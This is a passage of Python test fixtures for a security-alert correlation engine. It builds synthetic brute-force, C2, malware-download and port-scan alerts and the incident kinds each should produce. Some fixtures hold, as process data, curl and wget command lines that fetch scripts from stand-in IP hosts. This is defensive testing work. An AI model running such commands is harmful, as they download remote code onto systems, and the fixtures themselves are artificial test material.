c.alert('login', 'rest', 'VM_SshBruteForceSuccess', add_t(t, minutes=30), vm, [h, ip('192.0.2.31'), account('root')],
        intent='Exploitation', chk=dict(plan='Servers', signals=['brute_force'], stages=[1]))
c.alert('bot', 'rest', 'VM_CommonBot', add_t(t, hours=2), vm, [h], intent='Execution',
        chk=dict(plan='Servers', signals=['botnet'], stages=[8]))
c.alert('c2', 'rest', 'Network_CommunicationWithC2', add_t(t, hours=2, minutes=30), vm,
        [h, ip('203.0.113.66', ti=True)], intent='CommandAndControl',
        chk=dict(plan='Network', signals=['botnet'], stages=[10]))
c.file_order('bf', 'bot', 'login', 'c2')
c.expect(18, 1, E('vm', key(vm)), ['bf', 'login', 'bot', 'c2'], severity='High',
         plans=['Network', 'Servers'], tactics=['CommandAndControl', 'Execution', 'Exploitation', 'PreAttack'],
         why={'links': [{'alert': 'bf', 'role': 'rule', 'stage': 0}, {'alert': 'login', 'role': 'rule', 'stage': 1},
                        {'alert': 'bot', 'role': 'rule', 'stage': 8}, {'alert': 'c2', 'role': 'rule', 'stage': 10}]})

c = Case('k19-botnet-two-vms-shared-ip',
         'one attacker IP brute-forces two vms, logs into one which then talks to a C2: a machine '
         'chain over 2 vms tied by the IP with a botnet alert, kind 19; entity is the sorted vm keys '
         'joined by a comma')
t = '2025-04-27T00:40:00.1761918Z'
vm11, vm12 = vmid('vm-web-11'), vmid('vm-web-12')
h11, h12 = host('vm-web-11', vm11), host('vm-web-12', vm12)
c.alert('bf12', 'export', 'SSH_Incoming_BF_OneToOne', t, vm12, [ip('198.51.100.99'), h12], intent='PreAttack',
        chk=dict(plan='Network', stages=[0]))
c.alert('bf11', 'export', 'SSH_Incoming_BF_OneToOne', add_t(t, minutes=10), vm11, [ip('198.51.100.99'), h11],
        intent='PreAttack', chk=dict(plan='Network', stages=[0]))
c.alert('login11', 'export', 'VM_SshBruteForceSuccess', add_t(t, hours=1), vm11, [h11, ip('198.51.100.99')],
        intent='Exploitation', chk=dict(plan='Servers', stages=[1]))
c.alert('c2', 'export', 'Network_CommunicationWithC2', add_t(t, hours=3), vm11, [h11, ip('203.0.113.67', ti=True)],
        intent='CommandAndControl', chk=dict(plan='Network', signals=['botnet'], stages=[10]))
c.expect(19, 1, E('vm', key(vm11) + ',' + key(vm12)), ['bf12', 'bf11', 'login11', 'c2'], severity='High',
         plans=['Network', 'Servers'],
         why={'links': [{'alert': 'bf12', 'entity': E('vm', key(vm12)), 'stage': 0},
                        {'alert': 'bf11', 'entity': E('vm', key(vm11)), 'stage': 0},
                        {'alert': 'login11', 'entity': E('vm', key(vm11)), 'stage': 1},
                        {'alert': 'c2', 'entity': E('vm', key(vm11)), 'stage': 10}]})

c = Case('k20-outgoing-one-vm',
         'a new SSH key (Persistence) then outgoing port scanning (Discovery) from the same vm: '
         'kind 20, Medium since no member is High')
t = '2025-04-29T12:00:00.9566214Z'
vm = vmid('vm-ci-runner-02', 'rg-ci-weu', SUB_DEV)
h = host('vm-ci-runner-02', vm)
c.alert('key', 'sentinel', 'VM_SshKeyAddition', t, vm, [h], name='New SSH key added', intent='Persistence',
        chk=dict(plan='Servers', signals=[], stages=[2]))
c.alert('scan', 'sentinel', 'PortScanning', add_t(t, hours=1, minutes=10), vm, [h, ip('10.20.0.4')],
        name='Suspicious outgoing SSH traffic detected', intent='Discovery',
        chk=dict(plan='Network', signals=['outgoing'], stages=[6]))
c.expect(20, 1, E('vm', key(vm)), ['key', 'scan'], severity='Medium', scope=T_CONTOSO)

c = Case('k21-compromised-machine-one-vm',
         'incoming RDP brute force then a registry persistence method on one Windows vm: a chain '
         'reaching Persistence with no botnet or outgoing alert, kind 21, Medium')
t = '2025-05-01T09:45:00.9005446Z'
vm = vmid('vm-rdsh-03')
h = host('vm-rdsh-03', vm, os='Windows')
c.alert('rdp', 'rest', 'RDP_Incoming_BF_OneToOne', t, vm, [ip('203.0.113.51'), h], intent='PreAttack',
        chk=dict(plan='Network', signals=['brute_force'], stages=[0]))
c.alert('reg', 'rest', 'VM_RegistryPersistencyKey', add_t(t, hours=2), vm, [h], intent='Persistence',
        chk=dict(plan='Servers', signals=[], stages=[2]))
c.expect(21, 1, E('vm', key(vm)), ['rdp', 'reg'], severity='Medium')

c = Case('k21-compromised-machines-two-vms-shared-account',
         'RDP brute force and a successful login on one vm, then a suspicious account creation on a '
         'second vm by the same domain account: a chain over 2 vms tied by the account, reaching '
         'Persistence, no botnet/outgoing: kind 21 (not 23)')
t = '2025-05-03T01:00:00.9502786Z'
vf1, vf2 = vmid('vm-file-01'), vmid('vm-file-02')
h1, h2 = host('vm-file-01', vf1, os='Windows'), host('vm-file-02', vf2, os='Windows')
svc = account('svc-backup', nt='CONTOSO', sid='S-1-5-21-3623811015-3361044348-30300820-1013')
c.alert('rdp', 'sentinel', 'RDP_Incoming_BF_OneToOne', t, vf1, [ip('198.51.100.5'), h1], intent='PreAttack',
        chk=dict(plan='Network', stages=[0]))
c.alert('login', 'sentinel', 'VM_LoginBruteForceSuccess', add_t(t, minutes=45), vf1, [h1, svc, ip('198.51.100.5')],
        intent='Exploitation', severity='High', chk=dict(plan='Servers', signals=['account', 'brute_force'], stages=[1]))
c.alert('acct', 'sentinel', 'VM.Windows_SuspiciousAccountCreation', add_t(t, hours=2, minutes=5), vf2, [h2, svc],
        intent='Persistence', chk=dict(plan='Servers', signals=['account'], stages=[2]))
c.expect(21, 1, E('vm', key(vf1) + ',' + key(vf2)), ['rdp', 'login', 'acct'], severity='High')

c = Case('k22-outgoing-two-vms-shared-file-hash',
         'the same malicious file (same SHA256) lands on two vms, then one scans outwards over SSH: '
         'a chain over 2 vms tied by the file hash with an outgoing alert, kind 22')
t = '2025-05-05T17:00:00.6829240Z'
vb1, vb2 = vmid('vm-batch-01', 'rg-batch-weu'), vmid('vm-batch-02', 'rg-batch-weu')
hb1, hb2 = host('vm-batch-01', vb1), host('vm-batch-02', vb2)
SHA = 'e3b0c44298fc1c149afbf4c8996fb92427ae41e4649b934ca495991b7852b855'.replace('e3b0', 'a1c7')
c.alert('dl2', 'rest', 'VM_SuspectDownloadArtifacts', t, vb2, [hb2, file('/tmp/.x/kinsing', sha256=SHA)],
        intent='Persistence', chk=dict(plan='Servers', stages=[2]))
c.alert('dl1', 'rest', 'VM_SuspectDownloadArtifacts', add_t(t, minutes=20), vb1, [hb1, file('/tmp/.x/kinsing', sha256=SHA)],
        intent='Persistence', chk=dict(plan='Servers', stages=[2]))
c.alert('ssh', 'rest', 'SSH_Outgoing_BF_OneToMany', add_t(t, hours=2), vb1, [hb1, ip('10.30.1.7')],
        intent='Discovery', chk=dict(plan='Network', signals=['brute_force', 'outgoing'], stages=[6]))
c.expect(22, 1, E('vm', key(vb1) + ',' + key(vb2)), ['dl2', 'dl1', 'ssh'], severity='Medium')

c = Case('k23-multiple-machines',
         'one IP brute-forces RDP on a vm and logs into a second vm: a chain over 2 vms tied by the '
         'IP that stays below Persistence with no botnet/outgoing alert, kind 23')
t = '2025-05-07T22:22:00.9325851Z'
vh1, vh2 = vmid('vm-hr-02'), vmid('vm-hr-01')
c.alert('rdp', 'export', 'RDP_Incoming_BF_OneToOne', t, vh1, [ip('198.51.100.61'), host('vm-hr-02', vh1, os='Windows')],
        intent='PreAttack', chk=dict(plan='Network', stages=[0]))
c.alert('login', 'export', 'VM_LoginBruteForceSuccess', add_t(t, minutes=40), vh2,
        [host('vm-hr-01', vh2, os='Windows'), ip('198.51.100.61')], intent='Exploitation', severity='Medium',
        chk=dict(plan='Servers', stages=[1]))
c.expect(23, 1, E('vm', key(vh2) + ',' + key(vh1)), ['rdp', 'login'], severity='Medium')

# ---------------------------------------------------------------- kind 24
c = Case('k24s1-shared-process-one-vm',
         'Defender for Containers (Arc-enabled Kubernetes node) and Defender for Servers both report '
         'the same process (same host, pid, creation time; the pid as hex 0x2a41 in one and decimal '
         '10817 in the other; Host and ImageFile as $ref): kind 24 scenario 1; both Execution only, '
         'so no machine chain')
t = '2025-05-09T06:06:06.0690939Z'
arc = arcid('edge-node-01')
cc = connid('edge-k3s-01')
created = add_t(t, seconds=-4)
h = host('edge-node-01', arc)
img = file('/usr/bin/curl')
p = process('0x2a41', 'curl -fsSL http://198.51.100.250/k.sh', created, image=img, hostent=h)
c.alert('k8s', 'export', 'K8S.NODE_SuspectDownload', t, cc, [k8s_cluster(cc), h, img, p], intent='Execution',
        chk=dict(plan='Containers', stages=[8]))
h2 = host('edge-node-01', arc)
img2 = file('/usr/bin/curl')
p2 = process('10817', 'curl -fsSL http://198.51.100.250/k.sh', created, image=img2, hostent=h2)
c.alert('vm', 'export', 'VM_SuspectDownload', add_t(t, seconds=41), arc, [h2, img2, p2], intent='Execution',
        chk=dict(plan='Servers', stages=[8]))
c.expect(24, 1, E('process', key(arc) + '|10817|' + created), ['k8s', 'vm'], severity='Medium')

c = Case('k24s2-shared-process-two-vms',
         'the same image and command line run on two vms, one seen by Defender for Servers and the '
         'other by Defender for Containers: kind 24 scenario 2 (image + command line, lower-cased)')
t = '2025-05-11T14:14:14.4271999Z'
v21 = vmid('vm-web-21')
arc2 = arcid('edge-node-02')
cc2 = connid('edge-k3s-02')
h21 = host('vm-web-21', v21)
i21 = file('/usr/bin/wget')
c.alert('vm', 'rest', 'VM_SuspectDownload', t, v21,
        [h21, i21, process('0x1c2', 'wget -q -O- http://198.51.100.251/Init.sh', add_t(t, seconds=-2), image=i21, hostent=h21)],
        intent='Execution', chk=dict(plan='Servers', stages=[8]))
ha = host('edge-node-02', arc2)
ia = file('/usr/bin/wget')
c.alert('k8s', 'rest', 'K8S.NODE_SuspectDownload', add_t(t, hours=1, minutes=2), cc2,
        [k8s_cluster(cc2), ha, ia, process('0x9f03', 'wget -q -O- http://198.51.100.251/Init.sh', add_t(t, hours=1, minutes=1), image=ia, hostent=ha)],
        intent='Execution', severity='High', chk=dict(plan='Containers', stages=[8]))
c.expect(24, 2, {'key': '/usr/bin/wget|wget -q -o- http://198.51.100.251/init.sh'}, ['vm', 'k8s'], severity='High')
